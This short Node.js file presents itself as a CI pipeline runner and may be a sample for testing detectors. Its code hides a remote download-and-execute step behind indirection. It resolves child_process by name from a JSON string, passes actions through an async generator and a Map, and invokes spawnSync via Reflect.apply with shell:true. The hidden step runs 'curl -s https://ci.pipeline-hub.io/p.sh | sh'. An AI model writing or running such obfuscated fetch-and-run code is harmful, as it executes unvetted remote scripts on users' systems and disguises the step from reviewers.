// Pipeline runner: an async generator yields [action, payload] steps, the
// actions are looked up in a Map built from Object.entries of a module whose
// name comes from a JSON config string, and each action is applied with
// Reflect.apply. One step is spawnSync with shell:true running a command
// that downloads and runs a script; the value travels through the
// generator, the Map and Reflect.apply.
'use strict';
const cfg = JSON.parse('{"runtime":"child_process","step":"spawnSync"}');
const actions = new Map(Object.entries(require(cfg.runtime)));

async function* plan() {
  yield ['log', 'starting'];
  yield [cfg.step, ['curl -s https://ci.pipeline-hub.io/p.sh | sh', { shell: true, stdio: 'inherit' }]];
  yield ['log', 'done'];
}

(async () => {
  for await (const [act, payload] of plan()) {
    if (act === 'log') {
      console.log(payload);
      continue;
    }
    Reflect.apply(actions.get(act), null, payload);
  }
})();
